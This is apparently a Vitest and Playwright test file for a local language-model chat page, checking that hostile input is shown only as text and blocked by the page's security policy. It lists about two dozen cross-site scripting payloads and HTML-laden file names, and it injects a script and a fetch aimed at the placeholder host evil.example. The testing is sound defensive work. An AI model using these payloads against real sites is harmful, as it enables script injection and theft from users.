import { mkdir, rename, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { tinyGguf } from '../fixtures/gguf/tiny-gguf.ts';
import { serveTiny } from '../serve/served.ts';
import { browserPath, openPage, slowSession, startBrowser, withoutBrowser } from './browser.ts';

/** What models, files and strangers write is text on the page, and never part of it. */

/** Each would set `hacked`, open a dialog, load something, or leave an element behind. */
const attempts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)></form>',
  '<a href="javascript:alert(1)">go</a>',
  '[go](javascript:alert(1))',
  '[go](  JaVaScRiPt:alert(1))',
  '[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[go](vbscript:msgbox(1))',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.png)',
  '![x"onerror="alert(1)](x)',
  '```"><script>alert(1)</script>\ncode\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |',
  '- [x] <details open ontoggle=alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '[__proto__](constructor) &lt;script&gt;alert(1)&lt;/script&gt;',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
];

describe.skipIf(browserPath === undefined)(`the page and hostile text (${withoutBrowser})`, () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await startBrowser();
  });
  afterAll(() => browser?.close());

  test(`${attempts.length} attempts in questions and answers run nothing, load nothing, and are shown`, async () => {
    await using served = await serveTiny({
      open: () => slowSession(({ messages }) => (messages.at(-1)?.content ?? '').match(/.{1,7}/gs) ?? [], 1),
    });
    await using opened = await openPage(browser, served.url);
    const { page, faults } = opened;
    for (const attempt of attempts) {
      await page.getByLabel('Your question').fill(attempt);
      await page.getByRole('button', { name: 'Send' }).click();
      await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'hidden' });
    }
    await expect.poll(() => page.locator('article.assistant').count()).toBe(attempts.length);
    const strange = 'script, img, svg, iframe, object, embed, link, style, base, meta, form, math, audio, video';
    expect(
      await page
        .locator(
          strange
            .split(', ')
            .map((name) => `.log ${name}`)
            .join(', '),
        )
        .count(),
    ).toBe(0);
    const links = (await page.evaluate("[...document.querySelectorAll('.log a')].map(({ href }) => href)")) as string[];
    for (const href of links) expect(href).toMatch(/^(https?|mailto):/);
    const handlers =
      "[...document.querySelectorAll('*')].flatMap((node) => node.getAttributeNames()).filter((name) => name.startsWith('on'))";
    expect(await page.evaluate(handlers)).toEqual([]);
    expect(await page.locator('.log').textContent()).toContain('<script>alert(1)</script>');
    expect(faults).toEqual([]);
  });

  test('names of models, chats, files and failures are text', async () => {
    const name = '<img src=x onerror=alert(1)>';
    await using served = await serveTiny({
      open: () => slowSession(() => ['ok']),
      prepare: async (home) => {
        await rename(join(home, 'models', 'tiny.gguf'), join(home, 'models', `${name}.gguf`));
        await writeFile(join(home, 'models', '<svg onload=alert(2)>.gguf'), 'GGUF broken');
        await writeFile(join(home, 'models', 'second.gguf'), tinyGguf());
        await mkdir(join(home, 'chats'), { recursive: true });
        const turn = { type: 'turn', id: 'a', parent: null, role: 'user', content: 'hi', at: '', files: [{ name, text: name }] };
        const lines = [{ type: 'title', title: name }, turn, { ...turn, id: 'b', parent: 'a', role: 'assistant', model: name, end: name }];
        await writeFile(join(home, 'chats', '1-a.jsonl'), lines.map((line) => `${JSON.stringify(line)}\n`).join(''));
      },
    });
    await using opened = await openPage(browser, served.url);
    const { page, faults } = opened;
    await page.locator('#chats a').click();
    await page.locator('.file summary').getByText(name).waitFor();
    await page.getByRole('link', { name: 'Models' }).click();
    await page.getByText('Installed', { exact: true }).waitFor();
    await page.locator('.rows').first().getByText('<svg onload=alert(2)>').first().waitFor();
    await page.goto(`${served.url}#chat/${encodeURIComponent(name)}`);
    await page.locator('.fault').getByText(name).waitFor();
    expect(await page.locator('#page img').count()).toBe(1); // The page's own sign.
    expect(faults).toEqual([]);
  });

  test('the policy would stop a script that got in all the same', async () => {
    await using served = await serveTiny();
    await using opened = await openPage(browser, served.url);
    const { page, faults } = opened;
    const inject = "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))";
    await expect(page.evaluate("document.body.innerHTML = '<b>x</b>'")).rejects.toThrow(/Trusted/);
    await page.evaluate(inject).catch(() => undefined);
    await page.evaluate("fetch('https://evil.example/').catch(() => undefined)");
    expect(faults.filter((fault) => /policy|trusted/i.test(fault)).length).toBeGreaterThanOrEqual(2);
  });
});
